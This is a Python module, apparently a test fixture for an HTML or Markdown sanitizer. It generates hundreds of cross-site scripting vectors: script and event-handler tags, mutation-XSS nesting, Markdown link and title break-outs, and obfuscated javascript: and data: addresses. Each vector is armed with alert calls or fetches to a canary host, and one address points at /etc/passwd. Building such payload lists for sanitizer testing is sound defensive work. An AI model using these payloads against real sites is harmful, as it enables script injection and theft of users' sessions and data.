"""Ways to smuggle a script into what others read, as techniques. `RUN` runs if one works, `URL` is fetched if one does."""

from __future__ import annotations

import re
from itertools import product

_ESCAPED = re.compile(r"(?<!\\)\\(?:u([0-9a-f]{4})|n)")

_TAGS = r'''
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src=URL></script>
<script/src="URL"></script>
<script\n>RUN</script\n>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script x>RUN</script x>
<script type=module>RUN</script>
<script>/*<!--*/RUN//--></script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src=x/onerror=RUN>
<img src=x onerror\n=\nRUN>
<img src=x:x onerror=RUN//
<IMG """><SCRIPT>RUN</SCRIPT>">
<img src=URL>
<img srcset="URL 1x">
<img dynsrc=javascript:RUN lowsrc=javascript:RUN>
<image src=x onerror=RUN>
<picture><source srcset=URL><img src=x onerror=RUN></picture>
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script>RUN&lt;/script></svg>
<svg><script href=URL />
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=RUN>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<math href="javascript:RUN">x</math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
<body onload=RUN>
<html onmouseover=RUN>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src=URL></iframe>
<iframe/onload=RUN src=about:blank>
<frameset onload=RUN>
<object data="javascript:RUN"></object>
<object data=URL></object>
<embed src="javascript:RUN">
<embed src=URL>
<applet code=URL>
<video src=URL onerror=RUN></video>
<video><source onerror=RUN></video>
<video poster=URL></video>
<audio src=x onerror=RUN></audio>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<form action="javascript:RUN"><button>x</button></form>
<form><button formaction="javascript:RUN">x</button></form>
<form id=react></form><button form=react formaction="javascript:RUN">x</button>
<isindex action="javascript:RUN" type=submit>
<details open ontoggle=RUN><summary>x</summary></details>
<details class=more open ontoggle=RUN>
<marquee onstart=RUN>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=URL">
<meta http-equiv="Set-Cookie" content="x=<script>RUN</script>">
<base href="javascript:RUN//">
<base href=URL>
<link rel=stylesheet href=URL>
<link rel=import href="data:text/html,<script>RUN</script>">
<link rel=prefetch href=URL>
<style>@import 'URL';</style>
<style>*{background:url(URL)}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=RUN>x</p>
<p style="background:url(URL)">x</p>
<p style="width:expression(RUN)">x</p>
<div style="behavior:url(URL)">x</div>
<table background="javascript:RUN"><td background=URL>
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><img title="</noframes><img src=x onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<title><p title="</title><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<plaintext><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<!--><img src=x onerror=RUN>-->
<!--><script>RUN</script>
<!-- --!><img src=x onerror=RUN>
<!-- <p title="--><img src=x onerror=RUN>"> -->
<![CDATA[<img src=x onerror=RUN>]]>
<![CDATA[><script>RUN</script>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
<?php echo "<script>RUN</script>" ?>
<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;
<!ELEMENT x><img src=x onerror=RUN>
</textarea><script>RUN</script>
</p></div></li></ol></main><script>RUN</script>
</title><script>RUN</script>
</script><script>RUN</script>
"><script>RUN</script>
'><img src=x onerror=RUN>
" autofocus onfocus="RUN
' autofocus onfocus='RUN
` onmouseover=RUN
x" onclick="RUN" x="
--><script>RUN</script>
]]><script>RUN</script>
{{constructor.constructor('RUN')()}}
{% load static %}{{ x|safe }}<script>RUN</script>
${RUN}
<a href="javascript:RUN">x</a>
<a href="jav&#x09;ascript:RUN">x</a>
<a href=" &#14; javascript:RUN">x</a>
<a ping=URL href=/>x</a>
<a href=# onclick=RUN>x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<area href="javascript:RUN"><map name=x></map>
<p hx-get=URL hx-trigger=load>x</p>
<p hx-on:click=RUN hx-on--load=RUN>x</p>
<p data-hx-get=URL data-hx-trigger=load>x</p>
<p hx-vals='js:{x: RUN}' hx-trigger=load hx-post=/>x</p>
<p class="htmx-request" data-compose data-post=1 data-reply>x</p>
<p id=c1 name=react>x</p>
<x-element is=script onclick=RUN>x</x-element>
<dialog open onclose=RUN>x</dialog>
<p popover id=x onbeforetoggle=RUN>x</p><button popovertarget=x>x</button>
<p contenteditable autofocus onfocus=RUN>x</p>
<p tabindex=1 autofocus onfocus=RUN accesskey=x onclick=RUN>x</p>
<p onpointerenter=RUN onpointerrawupdate=RUN onscrollend=RUN>x</p>
\u0001<script\u0000>RUN</script>
<\u0000script>RUN</script>
<img\u0000src=x onerror=RUN>
<img src=x onerror\u0000=RUN>
<img\u000csrc=x\u000bonerror=RUN>
\uff1cscript\uff1eRUN\uff1c/script\uff1e
\u02bascript\u203aRUN
\u2039img src=x onerror=RUN\u203a
+ADw-script+AD4-RUN+ADw-/script+AD4-
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&amp;lt;img src=x onerror=RUN&amp;gt;
&lt&#x0000;img src=x onerror=RUN>
%3Cscript%3ERUN%3C/script%3E
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\u202e<script>RUN</script>
\u2066<img src=x onerror=RUN>\u2069
'''

# Where Markdown keeps words, addresses and titles: each can be broken out of.
_MARKDOWN = r"""
[x](/ "a" onmouseover="RUN")
[x](/ 'a" onmouseover="RUN')
[x](/ (a" onmouseover="RUN))
[x](/" onmouseover="RUN)
[x](</" onmouseover="RUN>)
[x](https://example.org/"onmouseover="RUN)
[x](https://example.org/'onmouseover='RUN)
[x](https://example.org/`onmouseover=`RUN)
[x" onmouseover="RUN](/)
[<img src=x onerror=RUN>](/)
[x](/ "<img src=x onerror=RUN>")
[x](/\" onmouseover=RUN)
[a](javascript:RUN 'x')[b](javascript&colon;RUN)
[a](<javascript:RUN>
![x" onerror="RUN](/x.png)
![x](/x.png"onerror="RUN)
![x](URL)
![x](URL "a" onerror="RUN")
![`<img src=x onerror=RUN>`](/x)
[![x](URL)](javascript:RUN)
<https://example.org/"onmouseover="RUN>
<https://example.org/<script>RUN</script>>
<javascript:RUN>
<x" onmouseover="RUN@example.org>
https://example.org/"onmouseover="RUN
https://example.org/'onmouseover='RUN
https://example.org/<img src=x onerror=RUN>
https://example.org/`onmouseover=RUN`
https://javascript:RUN@example.org/
http://[::1]"onmouseover="RUN
http://x\u0000"onmouseover=RUN
http://example.org/&quot;onmouseover=&quot;RUN
http://example.org/%22onmouseover=%22RUN
```"><script>RUN</script>\nx\n```
```html" onmouseover="RUN\nx\n```
~~~ <img src=x onerror=RUN>\nx\n~~~
`<img src=x onerror=RUN>`
``</code><img src=x onerror=RUN>``
    </code></pre><script>RUN</script>
# <img src=x onerror=RUN>
# x {#x onclick=RUN}
x\n{: onclick=RUN}
> x\n> \u2014 <img src=x onerror=RUN>
> x\n> \u2014 [x" onmouseover="RUN](/c/x/posts/1/)
> x\n> \u2014 [x](/c/x/posts/1/"onmouseover="RUN)
> x\n> \u2014 [x](/c/x/posts/1/javascript:RUN)
> x\n> \u2014 x" class="more" onmouseover="RUN
1" onclick="RUN. x
1. <img src=x onerror=RUN>
- <details open ontoggle=RUN>
*<img src=x onerror=RUN>*
~~<script>RUN</script>~~
@<img src=x onerror=RUN>
@"onmouseover="RUN
[r]: /x "a" onmouseover="RUN"
[<script>RUN</script>]: /x
[^1]: <script>RUN</script>
| <img src=x onerror=RUN> |\n|--|\n| x |
<details class="more"><summary><img src=x onerror=RUN></summary>
<span class="mention" onclick=RUN>@x</span>
<footer onclick=RUN>x</footer>
</details></details></div><script>RUN</script>
\<script>RUN</script>
<\script>RUN</script>
&lt;script>RUN</script>
<a\ href="javascript:RUN">x</a>
"""

_ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "javascript:RUN//https://example.org",
    "javascript://example.org/%0aRUN",
    "javascript://%0aRUN//http://example.org",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "javascript&#x3a;RUN",
    "javascript&#0000058RUN",
    "&#106;avascript:RUN",
    "&#x6A;&#x61;vascript:RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "java&#9;script:RUN",
    "java&#10;script:RUN",
    "java\tscript:RUN",
    "\x01javascript:RUN",
    "\x1fjavascript:RUN",
    "\u00a0javascript:RUN",
    "\u200bjavascript:RUN",
    "\u2028javascript:RUN",
    "\ufeffjavascript:RUN",
    "java\x00script:RUN",
    "java\u00adscript:RUN",
    "javascript\u200b:RUN",
    "javascript\\:RUN",
    "\\javascript:RUN",
    "javas%63ript:RUN",
    "javascript%3ARUN",
    "\u017favascript:RUN",
    "javascr\u0131pt:RUN",
    "vbscript:RUN",
    "livescript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=RUN>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "jar:javascript:RUN!",
    "blob:javascript:RUN",
    "filesystem:javascript:RUN",
    "file:///etc/passwd",
    "about:blank#<script>RUN</script>",
    "x-javascript:RUN",
    "//canary.invalid/",
    "/\\canary.invalid/",
    "/\t/canary.invalid/",
    "\\\\canary.invalid/",
    "https:javascript:RUN",
    "mailto:javascript:RUN",
    "#javascript:RUN",
    "?javascript:RUN",
)
_WRAPPED = (
    "[x]({0})",
    "[x](<{0}>)",
    "<{0}>",
    "![x]({0})",
    "[x][r]\n\n[r]: {0}\n",
    "> words\n> \u2014 [x]({0})",
    "{0}",
)


def _lines(block: str) -> list[str]:
    """One technique a line; what stands for a sign that cannot be seen becomes it."""
    return [_ESCAPED.sub(_sign, line) for line in block.split("\n") if line]


def _sign(escaped: re.Match[str]) -> str:
    return chr(int(escaped[1], 16)) if escaped[1] else "\n"


TECHNIQUES = [
    *_lines(_TAGS),
    *_lines(_MARKDOWN),
    *(wrapped.format(address) for address, wrapped in product(_ADDRESSES, _WRAPPED)),
]


def armed(technique: str, number: int) -> str:
    """The technique, which calls `alert(number)` or asks for an address of that number."""
    return technique.replace("RUN", f"alert({number})").replace("URL", f"https://canary.invalid/{number}")


VECTORS = [armed(technique, number) for number, technique in enumerate(TECHNIQUES, 1)]

# Short enough for names and titles.
SHORT = [vector for vector in VECTORS if len(vector) <= 70 and "\n" not in vector and "<" in vector][:60]
